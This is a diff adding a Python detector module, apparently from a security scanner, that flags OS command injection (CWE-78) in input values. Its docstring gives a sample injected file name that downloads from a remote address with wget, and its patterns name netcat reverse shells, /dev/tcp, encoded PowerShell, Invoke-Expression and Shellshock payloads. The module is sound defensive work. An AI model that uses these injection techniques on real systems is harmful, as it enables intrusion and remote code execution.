@@ -1,0 +1,390 @@
+r"""A value that ends its word in a command line and starts a command, a substitution or a redirection of its own.
+
+SG-CMD-001, CWE-78. POSIX shells, bash, cmd and PowerShell.
+
+A lexer looks at each place where a shell would begin a new command (after `;`, `|`, `&`, a line end, `$(`, a backtick, and the
+start of the value), undoes the quoting inside the first word (`w''ho$@ami`, `w\hoami`, `w^hoami`), and asks three things:
+does the value leave its word here, is the word a program, are the words behind it arguments as programs take them
+(an option, a path, an address, nothing at all) or is it a sentence that goes on?
+Also: `${IFS}`, function definitions in variables (Shellshock), variables assigned and called, wildcards that spell a
+system path, `/dev/tcp`, redirections to system paths.
+
+    attack          photo.jpg; wget -qO- http://203.0.113.9/x
+    near miss       pick a size; sleep on it; ping me tomorrow & more
+
+High: a command stands where a shell would start one. Medium: it is a word of plain English too, or the value is a command as a
+whole. Low: a command in the midst of a text.
+
+https://cwe.mitre.org/data/definitions/78.html  https://pubs.opengroup.org/onlinepubs/9799919799/utilities/V3_chap02.html
+"""
+
+from __future__ import annotations
+
+import re
+from functools import cache
+
+from serverless_guard.detectors import Evidence
+from serverless_guard.detectors.words import programs
+
+RULE = "SG-CMD-001"
+CWE = 78
+TITLE = "a value that would run a command of its own in a shell"
+NEEDS = (
+    ";",
+    "|",
+    "&",
+    "`",
+    "$",
+    "\n",
+    "\r",
+    ">(",
+    "<(",
+    "<<",
+    (">", "/"),
+    (">", "."),
+    " -",
+    " /",
+    " \\",
+    " c:",
+    "() {",
+    "/bin/",
+    ("?", "/"),
+    ("[", "/"),
+    ("*", "/"),
+    "\\n",
+    "\\r",
+    ("{", ","),
+    "%",
+    "^",
+)
+
+_COUNTED = ("sleep", "usleep", "timeout", "exit", "kill", "ping", "at", "shutdown", "fg", "seq")
+_ARGUMENT = re.compile(
+    r"-[\w-]|/\w{1,12}$|~?\.{0,2}/|\\\\|[A-Za-z]:[\\/]|[$%*?\"'`<>{@^!]|[a-z]+://|\d{1,3}(?:\.\d{1,3}){3}|"
+    r"[\w*?-]+\.[A-Za-z]{2,4}\d?$|[\w.-]+[/\\][\w./\\*?-]*$|0x[\da-f]+$|localhost|\w+=|passwd$|shadow$|\+%",
+    re.I,
+)
+_CANDIDATE = re.compile(r"[;|&\n\r`(][ \t\n\r\"'(\\{@!]{0,8}+([\w./\\:-]{1,60})")
+_FIRST = re.compile(r"[\s\"'(\\{@!]{0,8}+([\w./\\:-]{1,60})")
+_SPLICES = tuple("$'\"\\^`")
+_SPLICED = re.compile(
+    r"[;|&\n\r`(][ \t\"'(\\{@!]{0,8}+[\w/.*?-]{0,20}(?:''|\"\"|\\[a-zA-Z]|\$[@*\-$?!#0-9]|\$\{\w{0,12}\}|\$\(\)|``|\^[a-zA-Z]|"
+    r"\"[a-zA-Z]{1,4}\"|'[a-zA-Z]{1,4}')[\w/.*?$'\"\\^{}()@-]"
+)
+_GLOB = re.compile(r"(?:^|[\s;|&`({,=<>])(/?[\w*?\[\]!^.-]{1,24}(?:/[\w*?\[\]!^/.-]{1,24}){1,4})")
+_ASSIGNED = re.compile(r"(?:^|[\s;&|(])([A-Za-z_]\w{0,19})=[^\s;&|]{1,40}[;&|\n][^\n]{0,60}?\$\{?\1(?!\w)")
+_SURE = (  # (literal that must occur, pattern): each starts with a literal, which `re` looks for at the speed of a substring
+    ("()", r"\A\s{0,4}\(\)\s{0,3}\{[^}]{0,24}\}\s{0,3}[;>]"),
+    ("ifs", r"\$(?:ifs\b|\{ifs\b)"),
+    ("/dev/", r"/dev/(?:tcp|udp)/[\w.$]{1,60}/"),
+    ("sh", r"\|\s{0,4}(?:/(?:usr/)?bin/)?(?:ba|da|z|k|c|tc)?sh\s{0,4}(?:\Z|[;&|#\n'\"`)-])"),
+    ("%comspec", r"%comspec(?:%|:)"),
+    ("cmd", r"cmd(?:\.exe)?\s{1,4}/[ck]\b"),
+    ("for ", r"for\s{1,4}(?:/\w\s{1,4})?%%?\S\s{1,4}in\s{0,4}\([^)\n]{0,80}\)\s{0,4}do\b"),
+    ("powershell", r"powershell(?:\.exe)?\s{1,4}-(?:e|enc|nop|w|c|ex)\w{0,20}\s"),
+    (":~", r"%\w{3,20}:~\d{0,3},\d{0,3}%"),
+    ("nc", r"nc(?:\.\w{1,12})?\s[^\n;|&]{0,60}-[a-z]{0,4}e\s{1,4}(?:/|cmd|sh|bash)"),
+    (">(", r"\A\s{0,4}>\([\w/ ]"),
+    ("alias", r"alias\s{1,4}\w{1,20}=[^;&|\n]{1,20}[;&|\n]"),
+    ("${", r"\$\{!?\w{1,20}:\d{1,3}:\d{1,3}\}"),
+    ("iex", r"iex\s{0,2}\("),
+    ("iwr", r"iwr\s{0,2}\("),
+    ("invoke-", r"invoke-(?:expression|webrequest|command|restmethod)\s{1,4}[-$('\"h\w]"),
+)
+_REDIRECT = re.compile(
+    r"^[\w\s\"';|&.-]{0,20}\d?>{1,2}&?\s{0,4}(?:/(?:tmp|etc|var|dev|home|root|usr|opt|proc)/|[A-Za-z]:\\|\w{1,20}\.(?:php|sh|jsp|asp|aspx|py|bat|exe)\b)", re.I
+)
+_SQLITE = re.compile(r"(?:^|[;\n]|\\n)\s{0,4}\.(?:shell|system|databases|tables|read|import|output|once|dump|load|sh)\b[^.]", re.I)
+_PATIENCE = 64  # so many programs after so many separators and no command yet: worth a report by itself, and the end of the work
+
+
+def detect(text: str, where: str) -> Evidence | None:
+    """Evidence that `text` starts a command of its own; linear in its length."""
+    if "\\n" in text or "\\r" in text:
+        text = text.replace("\\n", "\n").replace("\\r", "\n")
+    low = text.lower()
+    document = text.count("\n", 0, 4000) > 3 and len(text) > 200
+    for literal, pattern in _SURE:
+        if literal in low and re.search(pattern, low):
+            return Evidence("low" if document else "high", "shell syntax that nothing else has")
+    found = _commands(text[:400], low[:400], True) if document else _commands(text, low, False)
+    if found or document:
+        return found
+    if "=" in text and "$" in text and _ASSIGNED.search(text):
+        return Evidence("high", "variable assigned, then called")
+    if "/" in text and ("?" in text or "[" in text or "*" in text) and _globbed(text):
+        return Evidence("high", "wildcards that spell a system path")
+    if ">" in text and _REDIRECT.match(text):
+        return Evidence("medium", "redirection to a file of the system")
+    if "." in text and _SQLITE.search(text):
+        return Evidence("medium", "command of a database shell")
+    return None
+
+
+def _commands(text: str, low: str, document: bool) -> Evidence | None:
+    """The strongest evidence at any place where a command could start."""
+    known = _programs()
+    best = None
+    first = _FIRST.match(low)
+    if not document and first and (first[1] in known or _name(first[1]) in known or low[first.end() : first.end() + 1] in _SPLICES):
+        best = _command(text, 0, "", 0)
+        if best is _NONE:
+            best = None
+    starts: list[int] = []
+    if not set(map(_name, set(_CANDIDATE.findall(low)))).isdisjoint(known) or low[:1] in _SEPARATORS:
+        starts = [found.start() for found in _CANDIDATE.finditer(low) if found[1] in known or _name(found[1]) in known or found.start() == 0]
+    if "\\" in text or "$" in text or "^" in text or "'" in text or '"' in text or "``" in text:
+        starts += [found.start() for found in _SPLICED.finditer(text)]
+    tried = 0
+    for start in starts:
+        separator = text[start]
+        if separator == "(":
+            separator = text[start - 1 : start] + "("
+            if separator not in _SEPARATORS:
+                continue
+        elif separator in "&|" and text[start - 1 : start] == separator:
+            separator *= 2
+        leaves = _leaves(text, start - len(separator) + 1)
+        found = _command(text, start + 1, separator, leaves)
+        if found is None or found is _NONE:
+            tried += 1
+            if tried > _PATIENCE:
+                return best or Evidence("low", "many programs after separators")
+        elif document:
+            if leaves == 3:
+                return found._replace(confidence="medium")
+        elif found.confidence == "high":
+            return found
+        elif best is None or best.confidence == "low":
+            best = found
+    return best
+
+
+def _leaves(text: str, at: int) -> int:
+    """How surely the value leaves its word at `at`: 3 right at the start, 2 after one word, 1 after a few, 0 in a text."""
+    if at > 200:
+        head = text[at - 200 : at]
+        return 0 if head.count(" ") > 3 else 2
+    if at and text[at] in "`$" and text[at - 1] in ";|&":
+        return 2
+    head = text[:at].strip(" \t\"'`)]}\\;|&\n\r")
+    if len(head) < 4 or head.isdigit():
+        return 3
+    spaces = head.count(" ")
+    return 2 if not spaces else 1 if spaces < 3 and text[at - 1] in "\"')" else 0
+
+
+def _command(text: str, at: int, separator: str, leaves: int) -> Evidence | None:
+    """What stands at `at`: evidence, `none` for a program that is no command here, None for no program at all."""
+    words, end, spliced, closed = _words(text, at)
+    if not words:
+        return None
+    name = _name(words[0])
+    kind = _programs().get(name)
+    if kind is None:
+        if leaves == 3 and separator and len(words) > 1 and words[1][:1] in "-/" and len(words[1]) > 1 and re.fullmatch(r"[a-z][\w.-]{1,24}", words[0]):
+            return Evidence("medium", "separator, unknown program, option or path")
+        return None
+    arguments = words[1:]
+    first = arguments[0] if arguments else ""
+    after = text[end : end + 1]
+    bare = not arguments
+    if after == "=" or (separator == "&" and bare and after in ("", "&") and "=" in text[:at]):
+        return _NONE  # a field of a form, a query string or a cookie
+    if (bare and kind > 1 and not (words[0].islower() or "/" in words[0])) or (
+        bare and separator == "\n" and len(text.strip("\n\r \"';`|")) > len(words[0]) and (after or not _address(text[:at]))
+    ):
+        return _NONE
+    good = bool(first) and (_ARGUMENT.match(first) is not None or first in programs.SUBCOMMANDS.get(name, "").split())
+    if name in _COUNTED and first.rstrip("smhd#'\"").replace(":", "").isdigit():
+        good = len(arguments) == 1 or arguments[1][:1] in "-/#>\"'" or name in ("at", "timeout")  # not "sleep 8 hours"
+    if words[0] != name and words[0].startswith(("/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/", "/usr/local/bin/")):
+        kind, good = 1, good or bare or len(arguments) < 4
+    if spliced and separator and (good or bare or leaves > 1):
+        return Evidence("high", "command with its name spliced")
+    if separator == "":
+        return _whole(text, kind, good, bare, spliced, arguments, end)
+    shape = f"{_SEPARATORS.get(separator, 'separator')}, command{', arguments' if arguments else ''}"
+    if separator in ("$(", "<(", ">("):
+        if kind == 3 and bare:
+            return _NONE
+        return Evidence("high" if closed == ")" else "medium", shape) if good or bare or kind == 1 else _NONE
+    if separator == "`":
+        if closed != "`" or text[at - 2 : at - 1] == "`" or text[end + 1 : end + 2] == "`" or not (good or bare or kind == 1):
+            return _NONE
+        tail = text[end + 1 : end + 200].strip()
+        if leaves > 1 and tail.count(" ") < 3:
+            return Evidence("high" if kind < 3 or good else "medium", shape)
+        return _NONE
+    strict = separator in ("&&", "||")
+    if leaves == 3:
+        if good or (bare and kind < 3) or kind == 1:
+            return Evidence("high" if kind < 3 or good else "medium", shape)
+        return Evidence("medium", shape) if bare and len(text) < 40 else _NONE
+    if leaves == 2:
+        if good or (bare and kind == 1) or (kind == 1 and len(arguments) < 4):
+            return Evidence("high", shape)
+        if bare and kind == 2 and (strict or _address(text[:at])):
+            return Evidence("medium", shape)
+        return Evidence("low", shape) if bare and not after and name in ("ls", "id", "pwd", "ps") and separator == ";" and "=" not in text else _NONE
+    if leaves == 1 or strict:
+        if good or (bare and kind == 1):
+            return Evidence("medium", shape)
+        return _NONE
+    if (kind == 1 and good) or (kind == 2 and good and first.startswith(("/etc/", "/dev/", "/proc/", "/tmp/"))):
+        return Evidence("low", shape)
+    return _NONE
+
+
+def _whole(text: str, kind: int, good: bool, bare: bool, spliced: bool, arguments: list[str], end: int) -> Evidence | None:
+    """The value begins with a program: a command as a whole, or a sentence."""
+    if spliced and len(text) < 300:
+        return Evidence("high", "command with its name spliced")
+    if len(text) > 300 or kind == 3:
+        return _NONE
+    follows = text[end : end + 2]
+    if good and not bare:
+        prose = sum(word.isalpha() and len(word) > 2 for word in arguments)
+        if prose > (2 if arguments[0].startswith(("-", "/", "<")) else 1):
+            return _NONE
+        return Evidence("medium", "command as the whole value")
+    if bare and follows[:1] in (";", "|") and follows != "; " and kind == 1:
+        return Evidence("medium", "command as the whole value")
+    return _NONE
+
+
+def _words(text: str, at: int) -> tuple[list[str], int, bool, str]:
+    """The words of the simple command at `at`, quoting undone: (words, end, whether the first was spliced, what closed it)."""
+    words: list[str] = []
+    word: list[str] = []
+    spliced = False
+    quote = ""
+    index, last = at, min(len(text), at + 240)
+    braces = False
+    while index < last and text[index] in " \t\"'(\\{@!\n\r":
+        braces = braces or text[index] == "{"
+        index += 1
+    while index < last and len(words) < 9:
+        char = text[index]
+        if quote:
+            if char == quote:
+                quote = ""
+            else:
+                word.append(char)
+            index += 1
+            continue
+        if char in "\"'":
+            if not words and word:
+                spliced = (
+                    spliced
+                    or text[index + 1 : index + 2] == char
+                    or (index + 1 < last and text[index + 1].isalpha() and text.find(char, index + 1, index + 8) > 0)
+                )
+            if char in text[index + 1 : last]:
+                quote = char
+                if words:
+                    word.append(char)
+        elif char == "\\" and text[index + 1 : index + 2] in ("n", "r") and not text[index + 2 : index + 3].isalnum():
+            break
+        elif char in " \t" or (char == "," and braces):
+            if word:
+                words.append("".join(word))
+                word = []
+        elif char in ";|&\n\r`)":
+            break
+        elif not words and char == "\\" and index + 1 < last and text[index + 1].isalpha() and not _drive(word):
+            spliced = spliced or (bool(word) and "/" not in word)
+        elif not words and char == "^":
+            spliced = True
+        elif not words and char == "$" and index + 1 < last and text[index + 1] in "@*-$?!#(){" and word:
+            spliced = True
+            index = _skip(text, index, last)
+            continue
+        elif not words and word and char in "<>":
+            words.append("".join(word))
+            word = [char]
+        elif not words and char == "=":
+            break
+        else:
+            word.append(char)
+        index += 1
+    if word:
+        words.append("".join(word))
+    return words, index, spliced, text[index : index + 1]
+
+
+def _skip(text: str, index: int, last: int) -> int:
+    """Past an expansion that gives nothing: `$@`, `${x}`, `$()`."""
+    opener = text[index + 1]
+    if opener in "({":
+        close = text.find(")" if opener == "(" else "}", index, min(last, index + 16))
+        return close + 1 if close > 0 else index + 2
+    return index + 2
+
+
+def _drive(word: list[str]) -> bool:
+    return ":" in word or "." in word or "\\" in word
+
+
+def _globbed(text: str) -> bool:
+    tried = 0
+    for found in _GLOB.finditer(text):
+        path = found.group(1)
+        if not ("?" in path or "[" in path or ("*" in path and sum(map(str.isalpha, path)) > 4 and path.startswith("/"))):
+            continue
+        tried += 1
+        if tried > 8:
+            break
+        pattern = _glob_pattern(path)
+        if pattern is not None and any(map(pattern.fullmatch, programs.TARGETS.split())):
+            return True
+    return False
+
+
+def _glob_pattern(path: str) -> re.Pattern[str] | None:
+    path = re.sub(r"/{2,}", "/", re.sub(r"\*{2,}", "*", path))
+    if path.count("*") > 4 or (not any(map(str.isalpha, path)) and path.count("?") < 5):
+        return None
+    spelled = re.sub(
+        r"\\\[([!^]?)([\w\\/.-]{1,12})\\\]",
+        lambda m: "[" + ("^" if m[1] else "") + m[2].replace("\\-", "-") + "]",
+        re.escape(path).replace(r"\!", "!").replace(r"\^", "^"),
+    )
+    try:
+        return re.compile(spelled.replace(r"\*", "[^/]{0,12}").replace(r"\?", "[^/]?"))
+    except re.error:
+        return None
+
+
+def _address(head: str) -> bool:
+    head = head.strip(" \t\"'&|;")
+    return "." in head or head.isdigit() or "/" in head
+
+
+def _name(word: str) -> str:
+    """The program's name: without its folder, in lower case."""
+    if "/" in word or "\\" in word:
+        word = word.replace("\\", "/").rsplit("/", 1)[1]
+    return word.lower()
+
+
+@cache
+def _programs() -> dict[str, int]:
+    """Name of a program: 1 nobody writes it in a sentence, 2 short, 3 English."""
+    return {name: kind for kind, names in ((3, programs.ENGLISH), (2, programs.SHORT), (1, programs.PLAIN)) for name in names.split()}
+
+
+_NONE = Evidence("low", "a program that is no command here")
+_SEPARATORS = {
+    ";": "semicolon",
+    "|": "pipe",
+    "||": "or",
+    "&&": "and",
+    "&": "ampersand",
+    "\n": "line end",
+    "\r": "line end",
+    "$(": "substitution",
+    "`": "backtick",
+    "<(": "process substitution",
+    ">(": "process substitution",
+}
